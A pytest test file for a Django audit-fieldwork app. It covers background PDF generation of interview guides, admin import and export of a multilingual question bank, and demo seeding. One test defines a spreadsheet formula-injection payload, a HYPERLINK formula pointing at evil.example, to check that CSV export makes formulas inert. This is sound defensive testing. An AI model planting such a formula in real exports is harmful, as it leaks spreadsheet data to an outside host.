"""The guide PDF made in the background (idempotent, failures shown, lost jobs sent again),
who may download it; the question bank in admin with import and export; the demo data."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from unittest import mock

import pytest
from django.contrib import admin
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from import_export.forms import SelectableFieldsExportForm
from pypdf import PdfReader

from audits.fieldwork import demo, services
from audits.fieldwork.models import BankQuestion, GuideKind, GuidePdf
from audits.fieldwork.tests.factories import BankQuestionFactory
from audits.models import Audit
from audits.tests.factories import audit_in_state
from brukarkraft.models import PendingTask

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


@pytest.fixture
def audit(commissioner, staff):
    return audit_in_state(Audit.Status.COLLECTING, commissioner=commissioner, staff=staff)


@pytest.fixture
def lead(audit):
    return audit.members.get(role="lead").user


@pytest.fixture
def guide(audit, lead):
    guide = services.guide_start(audit=audit, kind=GuideKind.INTERVIEW, by=lead)
    services.questions_add_from_bank(
        guide=guide,
        by=lead,
        section=guide.sections.get(),
        bank_questions=[BankQuestionFactory(text_sv="Hur blir du bemött när du kommer hit?")],
    )
    return guide


def guide_url(name: str, guide, **kwargs) -> str:
    return reverse(
        f"audits:fieldwork:{name}", kwargs={"pk": guide.audit_id, "kind": guide.kind, **kwargs}
    )


# --- The PDF ------------------------------------------------------------------------------


@pytest.fixture
def made(django_capture_on_commit_callbacks):
    """Request a PDF and let the job run, as after a commit (Celery is eager in tests)."""

    def request(guide, by):
        with django_capture_on_commit_callbacks(execute=True):
            pdf = services.guide_pdf_request(guide=guide, by=by)
        pdf.refresh_from_db()
        return pdf

    return request


def test_the_team_gets_a_pdf_with_the_introduction_and_the_questions(
    guide, lead, client, django_capture_on_commit_callbacks
):
    client.force_login(lead)

    with django_capture_on_commit_callbacks(execute=True):
        client.post(guide_url("pdf_request", guide))

    pdf = GuidePdf.objects.get(guide=guide)
    assert pdf.status == GuidePdf.Status.READY
    assert pdf.language == "sv"
    page = client.get(guide_url("guide", guide)).content.decode()
    assert guide_url("pdf_download", guide, pdf_id=pdf.pk) in page
    response = client.get(guide_url("pdf_download", guide, pdf_id=pdf.pk))
    assert response["Content-Type"] == "application/pdf"
    text = " ".join(
        p.extract_text() for p in PdfReader(io.BytesIO(b"".join(response.streaming_content))).pages
    )
    assert "Intervjuguide" in text
    assert "Hur blir du bemött när du kommer hit?" in text
    assert "anonymt" in text
    assert "avbryta när som helst" in text
    assert "Anteckningar (inga namn)" in text


def test_a_second_press_gives_the_pdf_already_made_until_the_guide_changes(guide, lead, made):
    first = made(guide, lead)
    assert first.status == GuidePdf.Status.READY
    again = made(guide, lead)
    assert again.pk == first.pk

    services.section_add(guide=guide, by=lead, title="Ny del")
    newer = made(guide, lead)
    assert newer.pk != first.pk
    assert newer.status == GuidePdf.Status.READY


def test_a_pending_pdf_is_not_requested_twice(guide, lead):
    with mock.patch.object(services, "_queue_pdf"):
        first = services.guide_pdf_request(guide=guide, by=lead)
        second = services.guide_pdf_request(guide=guide, by=lead)

    assert first.pk == second.pk
    assert first.status == GuidePdf.Status.QUEUED


def test_rendering_twice_does_nothing_more(guide, lead, made):
    pdf = made(guide, lead)
    name = pdf.file.name

    services.guide_pdf_render(pdf_id=pdf.pk)

    pdf.refresh_from_db()
    assert (pdf.file.name, pdf.attempts) == (name, 1)


def test_a_failure_is_recorded_and_shown(guide, lead, client, made):
    with mock.patch("audits.fieldwork.pdf.guide_pdf", side_effect=RuntimeError("boom")):
        pdf = made(guide, lead)
    assert (pdf.status, pdf.error) == (GuidePdf.Status.FAILED, "RuntimeError")
    client.force_login(lead)

    page = client.get(guide_url("guide", guide)).content.decode()

    assert "PDF:en kunde inte göras." in page
    assert client.get(guide_url("pdf_download", guide, pdf_id=pdf.pk)).status_code == 404
    again = made(guide, lead)
    assert again.pk != pdf.pk
    assert again.status == GuidePdf.Status.READY


def test_a_pdf_that_kills_its_worker_stops_after_three_tries(guide, lead):
    with mock.patch.object(services, "_queue_pdf"):
        pdf = services.guide_pdf_request(guide=guide, by=lead)
    GuidePdf.objects.filter(pk=pdf.pk).update(status=GuidePdf.Status.RUNNING, attempts=3)

    assert services.guide_pdf_render(pdf_id=pdf.pk) is None

    pdf.refresh_from_db()
    assert (pdf.status, pdf.error) == (GuidePdf.Status.FAILED, "WorkerLost")


def test_the_sweep_sends_only_pdfs_whose_job_is_lost(guide, lead):
    def make(minutes_ago: int, status=GuidePdf.Status.QUEUED) -> GuidePdf:
        return GuidePdf.objects.create(
            guide=guide,
            language="sv",
            status=status,
            requested_at=timezone.now() - timedelta(minutes=minutes_ago),
        )

    lost = make(30)
    make(2)  # recent
    kept = make(30)
    PendingTask.objects.create(task=services.GUIDE_PDF_TASK, args=[kept.pk])
    make(30, GuidePdf.Status.READY)

    with mock.patch("brukarkraft.queue.enqueue_by_name") as enqueue:
        sent = services.guide_pdfs_requeue_stale()

    assert sent == 1
    assert [call.args for call in enqueue.call_args_list] == [(services.GUIDE_PDF_TASK, lost.pk)]


def test_the_commissioner_and_outsiders_get_no_pdf(
    guide, lead, commissioner, auditor, client, made
):
    pdf = made(guide, lead)
    services.guide_share(guide=guide, by=lead)

    client.force_login(commissioner)
    assert client.get(guide_url("pdf_download", guide, pdf_id=pdf.pk)).status_code == 403
    client.force_login(auditor)
    assert client.get(guide_url("pdf_download", guide, pdf_id=pdf.pk)).status_code == 404


def test_the_pdf_is_in_the_audits_language(commissioner, staff, made):
    audit = audit_in_state(
        Audit.Status.COLLECTING, commissioner=commissioner, staff=staff, language="en"
    )
    lead = audit.members.get(role="lead").user
    guide = services.guide_start(audit=audit, kind=GuideKind.FOCUS_GROUP, by=lead)
    services.question_add(
        guide=guide, by=lead, section=guide.sections.get(), data={"text": "What works well?"}
    )

    pdf = made(guide, lead)

    text = " ".join(p.extract_text() for p in PdfReader(pdf.file.open("rb")).pages)
    assert "Focus-group guide" in text
    assert "Notes (no names)" in text
    assert "you may leave at any time" in text


# --- The bank in admin --------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"Klicka")'


def export(client) -> list[dict]:
    model_admin = admin.site._registry[BankQuestion]
    formats = [fmt().get_title() for fmt in model_admin.get_export_formats()]
    resource = model_admin.resource_classes[0]
    data = {"format": str(formats.index("csv")), "resource": "0"}
    for name in resource().get_export_order():
        data[SelectableFieldsExportForm.create_boolean_field_name(resource, name)] = "on"
    response = client.post(reverse("admin:audits_bankquestion_export"), data)
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_the_bank_exports_in_three_languages_with_formulas_inert(client, staff):
    question = BankQuestionFactory(text_sv=HYPERLINK)
    client.force_login(staff)

    rows = export(client)

    row = next(r for r in rows if r["id"] == str(question.pk))
    assert row["text_sv"] == "'" + HYPERLINK
    assert row["text_nb"] == question.text_nb
    assert row["follow_ups_en"] == question.follow_ups_en


def test_staff_import_new_bank_questions_and_bad_rows_create_nothing(client, staff):
    client.force_login(staff)
    model_admin = admin.site._registry[BankQuestion]
    formats = [fmt().get_title() for fmt in model_admin.get_import_formats()]
    header = "id,theme,use,text_sv,text_nb,text_en,active"

    def upload(text: str):
        return client.post(
            reverse("admin:audits_bankquestion_import"),
            {
                "resource": "0",
                "format": str(formats.index("csv")),
                "import_file": SimpleUploadedFile("bank.csv", text.encode(), "text/csv"),
            },
        )

    bad = upload(f"{header}\n,weather,both,Hur är vädret?,Hvordan er været?,Weather?,1\n")
    assert bad.status_code == 200
    assert bad.context.get("confirm_form") is None
    assert bad.context["result"].has_validation_errors()
    good = upload(f"{header}\n,safety,interview,Känns det tryggt?,Føles det trygt?,Safe?,1\n")
    client.post(
        reverse("admin:audits_bankquestion_process_import"), good.context["confirm_form"].initial
    )

    question = BankQuestion.objects.get()
    assert (question.theme, question.use, question.text_nb) == (
        "safety",
        "interview",
        "Føles det trygt?",
    )


def test_an_auditor_cannot_reach_the_bank_in_admin(client, auditor):
    client.force_login(auditor)

    response = client.get(reverse("admin:audits_bankquestion_changelist"))

    assert response.status_code == 302


# --- Demo data ----------------------------------------------------------------------------


def test_the_demo_bank_is_complete_in_three_languages_and_seeds_once(audit, commissioner):
    demo.seed([audit], commissioner=commissioner)
    demo.seed([audit], commissioner=commissioner)

    assert BankQuestion.objects.count() == len(demo.BANK) >= 20
    for question in BankQuestion.objects.all():
        assert question.text_sv and question.text_nb and question.text_en
        assert question.easy_read_sv and question.easy_read_nb and question.easy_read_en
    interview = audit.guides.get(kind=GuideKind.INTERVIEW)
    assert interview.is_shared
    assert interview.comments.get().author == commissioner
    assert audit.guides.get(kind=GuideKind.FOCUS_GROUP).status == "draft"
    assert audit.guides.count() == 2
